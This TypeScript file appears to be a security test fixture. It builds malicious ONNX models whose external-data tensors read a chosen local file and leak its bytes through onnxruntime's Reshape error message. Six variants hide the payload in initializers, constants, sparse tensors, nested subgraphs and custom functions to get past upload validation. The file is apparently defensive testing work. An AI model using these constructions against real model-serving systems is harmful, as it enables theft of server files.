import { encodeModel, type ExternalTensorSpec, type GraphSpec, type NodeSpec } from '../onnx/model-proto.ts'

/**
 * The external-data attack on upload validation (issue 10, finding 1), built with the
 * project's own writer: a tensor whose values onnxruntime would read from `location` (resolved
 * against the model process's working directory for a model loaded from bytes), fed as the
 * target shape of a Reshape of the input. Run on the all-zero validation patch, the Reshape
 * fails and onnxruntime's message prints the requested shape, i.e. the first `bytes` bytes of
 * the file as decimal numbers. The model's signature matches EXTERNAL_ATTACK_CONFIG, so it
 * passes every check up to that run.
 */
export const EXTERNAL_DATA_VARIANTS = [
  'initializer',
  'constant-attribute',
  'sparse-initializer',
  'if-subgraph',
  'loop-in-if-subgraph',
  'function',
] as const
export type ExternalDataVariant = (typeof EXTERNAL_DATA_VARIANTS)[number]

export const EXTERNAL_ATTACK_CONFIG = {
  schemaVersion: 1,
  input: { channels: ['image'], spacing: null },
  normalization: { kind: 'z-score' },
  slidingWindow: { patchSize: [8, 8, 8], overlap: 0.5, blending: 'gaussian' },
  output: { kind: 'logits', channels: [{ class: 'background' }, { class: 'vertebra' }] },
} as const

const IO = { name: 'x', elemType: 'float32', shape: [1, 1, 'z', 'y', 'x'] } as const
const OUT = { name: 'y', elemType: 'float32', shape: [1, 2, 'z', 'y', 'x'] } as const

/** The tensor named `stolen` of `bytes` uint8 values read from `location`. */
function stolen(location: string, bytes: number, name = 'stolen'): ExternalTensorSpec {
  return { name, dims: [bytes], elemType: 'uint8', external: { location, offset: 0, length: bytes } }
}

/** y = concat(x + sum(reshape(x, stolen + min(x))), ...): the shape depends on the input, so only the run fails, printing it. */
function leak(source: string): NodeSpec[] {
  return [
    { op: 'Cast', inputs: [source], outputs: ['shape_u'], attributes: { to: { int: 7 } } },
    { op: 'ReduceMin', inputs: ['x'], outputs: ['zero_f'], attributes: { keepdims: { int: 0 } } },
    { op: 'Cast', inputs: ['zero_f'], outputs: ['zero'], attributes: { to: { int: 7 } } },
    { op: 'Add', inputs: ['shape_u', 'zero'], outputs: ['shape'] },
    { op: 'Reshape', inputs: ['x', 'shape'], outputs: ['reshaped'] },
    { op: 'ReduceSum', inputs: ['reshaped'], outputs: ['sum'], attributes: { keepdims: { int: 0 } } },
    { op: 'Add', inputs: ['x', 'sum'], outputs: ['xs'] },
    { op: 'Concat', inputs: ['xs', 'xs'], outputs: ['y'], attributes: { axis: { int: 1 } } },
  ]
}

/** A subgraph (If branch) that outputs the external tensor as `out`. */
function branch(name: string, location: string, bytes: number, out: string): GraphSpec {
  return {
    name,
    inputs: [],
    outputs: [{ name: out, elemType: 'uint8', shape: [bytes] }],
    nodes: [{ op: 'Identity', inputs: [`${name}_data`], outputs: [out] }],
    initializers: [stolen(location, bytes, `${name}_data`)],
  }
}

const TRUE = { name: 'true_u8', dims: [], data: Uint8Array.of(1) }
const toBool: NodeSpec = { op: 'Cast', inputs: ['true_u8'], outputs: ['cond'], attributes: { to: { int: 9 } } }

/** The attack model of `variant`, reading the first `bytes` bytes of `location`. */
export function externalDataAttackModel(variant: ExternalDataVariant, location: string, bytes = 16): Uint8Array {
  const base = { name: `attack-${variant}`, inputs: [IO], outputs: [OUT] }
  switch (variant) {
    case 'initializer':
      return encodeModel({ ...base, nodes: leak('stolen'), initializers: [stolen(location, bytes)] })
    case 'constant-attribute':
      return encodeModel({
        ...base,
        nodes: [
          { op: 'Constant', inputs: [], outputs: ['stolen'], attributes: { value: { tensor: stolen(location, bytes, 'value') } } },
          ...leak('stolen'),
        ],
      })
    case 'sparse-initializer':
      return encodeModel({
        ...base,
        nodes: leak('stolen'),
        sparseInitializers: [
          {
            values: { ...stolen(location, bytes) },
            indices: { name: 'stolen_idx', dims: [bytes], data: BigInt64Array.from({ length: bytes }, (_, i) => BigInt(i)) },
            dims: [bytes],
          },
        ],
      })
    case 'if-subgraph':
      return encodeModel({
        ...base,
        nodes: [
          toBool,
          {
            op: 'If',
            inputs: ['cond'],
            outputs: ['stolen'],
            attributes: {
              then_branch: { graph: branch('then', location, bytes, 'then_out') },
              else_branch: { graph: branch('else', location, bytes, 'else_out') },
            },
          },
          ...leak('stolen'),
        ],
        initializers: [TRUE],
      })
    case 'loop-in-if-subgraph': {
      // If(true) { Loop(1) { Constant(external) } }: the tensor sits two subgraphs down.
      const body: GraphSpec = {
        name: 'body',
        inputs: [
          { name: 'i', elemType: 'int64', shape: [] },
          { name: 'c', elemType: 'bool', shape: [] },
        ],
        outputs: [
          { name: 'c_out', elemType: 'bool', shape: [] },
          { name: 'scan', elemType: 'uint8', shape: [bytes] },
        ],
        nodes: [
          { op: 'Identity', inputs: ['c'], outputs: ['c_out'] },
          { op: 'Constant', inputs: [], outputs: ['scan'], attributes: { value: { tensor: stolen(location, bytes, 'deep') } } },
        ],
      }
      const then: GraphSpec = {
        name: 'then',
        inputs: [],
        outputs: [{ name: 'flat', elemType: 'uint8', shape: [bytes] }],
        nodes: [
          { op: 'Loop', inputs: ['one', 'cond'], outputs: ['scanned'], attributes: { body: { graph: body } } },
          { op: 'Reshape', inputs: ['scanned', 'flat_shape'], outputs: ['flat'] },
        ],
        initializers: [
          { name: 'one', dims: [], data: BigInt64Array.of(1n) },
          { name: 'flat_shape', dims: [1], data: BigInt64Array.of(BigInt(bytes)) },
        ],
      }
      const other = branch('else', location, bytes, 'else_out')
      return encodeModel({
        ...base,
        nodes: [
          toBool,
          { op: 'If', inputs: ['cond'], outputs: ['stolen'], attributes: { then_branch: { graph: then }, else_branch: { graph: other } } },
          ...leak('stolen'),
        ],
        initializers: [TRUE],
      })
    }
    case 'function':
      return encodeModel({
        ...base,
        functions: [
          {
            name: 'Steal',
            domain: 'attack',
            inputs: [],
            outputs: ['out'],
            nodes: [{ op: 'Constant', inputs: [], outputs: ['out'], attributes: { value: { tensor: stolen(location, bytes, 'value') } } }],
          },
        ],
        nodes: [{ op: 'Steal', domain: 'attack', inputs: [], outputs: ['stolen'] }, ...leak('stolen')],
      })
  }
}

/** How onnxruntime prints `bytes` as a requested shape: "{84,79,80,...}". */
export function shapeDump(bytes: Uint8Array): string {
  return `{${[...bytes].join(',')}}`
}
